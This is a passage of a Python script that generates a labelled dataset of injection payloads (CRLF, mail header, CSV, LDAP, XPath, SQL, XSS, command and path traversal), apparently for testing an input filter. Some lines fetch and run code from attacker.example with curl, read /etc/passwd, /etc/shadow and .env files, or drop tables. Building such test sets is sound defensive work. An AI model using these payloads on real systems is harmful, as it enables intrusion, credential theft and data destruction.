    "x%0D%0A%0D%0A%3Cscript%3Ealert(document.domain)%3C/script%3E",
    "/track?id=8812%0d%0aContent-Type:%20text/html%0d%0aContent-Length:%2035%0d%0a%0d%0a<svg onload=alert(1)>",
)
add("crlf", "mail-header",
    "fiona@glenardoch.example\r\nBcc: list@attacker.example",
    "Order 8812 shipped\nCc: everyone@attacker.example\nSubject: Urgent: new bank details for cask payments",
    "Raj Patel <raj@harbourrum.example>%0ABcc:%20harvest@attacker.example",
    "quote request\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay invoice</a>",
    "niamh@glenardoch.example%0d%0aReply-To:%20billing@attacker.example",
    "Cask order\nX-Mailer: x\nTo: victims@attacker.example",
)
add("crlf", "csv-row",
    "HB-101,cask,36,pcs,rack 2\nADMIN-OVERRIDE,credit note,-11400,GBP,approved",
    "\"ok\"\r\n\"=HYPERLINK(\"\"https://attacker.example\"\",\"\"Invoice\"\")\",1,pcs",
    "rack 4\"\nFAKE-SKU,\"Free hogshead\",999,pcs,\"rack 4",
    "note;\r\nST-36W;stave;0;pcs;written-off",
    "Harbour Rum;12\n8812;refund;11400;approved;mairead",
    "lot17%0aQC-125,quarter cask,-40,pcs,deleted",
)

# =============================================================== ldap-xpath (literals)
add("ldap-xpath", "ldap",
    "*)(uid=*))(|(uid=*",
    "fiona)(|(password=*)",
    "admin)(&)",
    "*)(objectClass=*",
    "Aoife*)(memberOf=cn=portal-admins,ou=groups,dc=cooperage,dc=example",
    "x)(|(cn=*)(userPassword=a*))",
    "*()|%26'",
    "raj\\2a)(uid=\\2a",
    "mairead)(!(cn=nobody)",
    "%2a%29%28uid%3d%2a",
)
add("ldap-xpath", "xpath",
    "' or '1'='1",
    "HB-101' or 1=1 or 'a'='a",
    "x' or name()='password' or 'a'='b",
    "'] | //user/password | a['",
    "8812' and string-length(//user[1]/password)>5 and '1'='1",
    "') or count(/*)=1 or ('a'='b",
    "Glen Ardoch' or substring(//client[1]/apikey,1,1)='k' or 'x'='y",
    "1 or 1=1]/*[1",
    "' or doc('http://attacker.example/x')//a or '",
    "fiona' or contains(//user[role='admin']/login,'a') or 'q'='r",
)

# =============================================================== generated remainder
# (a) hand-written payload pools joined to hand-written theme prefixes
PREFIXES = {
    "sqli": ["HB-101", "Glen Ardoch", "hogshead 250", "PO 4471", "lot SL-0412"],
    "xss": ["Great casks, thanks! ", "Order note: ", "Engrave: Cask 1 of 40 ", "Bio: distiller ",
            "Tracking: "],
    "cmdi": ["2024-06-11", "cask_14.jpg", "toast_Q2.csv", "M-0611.pdf", "HB-12"],
    "traversal": ["photos/HB-101/", "toast/2024-06-11/", "manifests/", "exports/fiona/"],
}
POOLS = {
    "sqli": ("pool-join", ["' OR 7=7-- -", "' AND SLEEP(8)#", "' UNION SELECT login,pw FROM portal_users--",
                          "'; DROP TABLE stave_stock--", "' AND 1=(SELECT COUNT(*) FROM tabname)--"]),
    "xss": ("pool-join", ["<svg onload=alert(7)>", "<img src=q onerror=alert(document.cookie)>",
                         "<script>alert(origin)</script>", "<iframe srcdoc=\"<script>alert(1)</script>\">"]),
    "cmdi": ("pool-join", [";id", "|cat /etc/passwd", "$(sleep 8)", "`uname -a`", "&&curl attacker.example|sh"]),
    "traversal": ("pool-join", ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow",
                               "....//....//etc/hosts"]),
}
N_POOL = {"sqli": 4, "xss": 2, "cmdi": 8, "traversal": 3}
# (b) every byte percent-encoded once (sqli / traversal only)
URLENC_SRC = {
    "sqli": [("boolean", "HB-101' OR 1=1-- -"), ("union", "8812' UNION SELECT login,pw FROM portal_users--"),
             ("time", "4471' AND SLEEP(5)#"), ("stacked", "x'; DROP TABLE toast_logs--")],
    "traversal": [("dotdot", "../../../../etc/passwd"), ("dotdot", "..\\..\\..\\windows\\win.ini"),
                  ("dotdot", "../../var/www/portal/.env")],
}

ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    rng = random.Random(SEED)
    benign = set()
    bpath = os.path.join(here, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    rows = []
    seen = set()
    n_lit = 0
    for cat in ORDER:
        items = []
        for cls, v in A[cat]:
            if v in seen:
                raise SystemExit("duplicate literal %r" % v)
            seen.add(v)
            items.append((cls, v))
            n_lit += 1
        if cat in N_POOL:
            cls, pool = POOLS[cat]
            want = len(items) + N_POOL[cat]
            tries = 0
            while len(items) < want:
                tries += 1
                assert tries < 5000
                v = rng.choice(PREFIXES[cat]) + rng.choice(pool)
                if v in seen:
                    continue
                seen.add(v)
                items.append((cls, v))
        for src_cls, src in URLENC_SRC.get(cat, []):
            v = pct_all(src)
            assert v not in seen
            seen.add(v)
            items.append((src_cls + "+urlencode", v))
        for cls, v in items:
            rows.append((cat, cls, v))
    for cat, cls, v in rows:
        assert 1 <= len(v) <= 2000, v
        assert v not in benign, v
        for ch in v:
            o = ord(ch)
            assert not (o < 32 and ch not in "\n\r\t"), (v, o)
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": "haiy-%05d" % i, "category": cat, "class": cls, "label": "attack",
                   "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    return n_lit, len(rows)


if __name__ == "__main__":
    main()
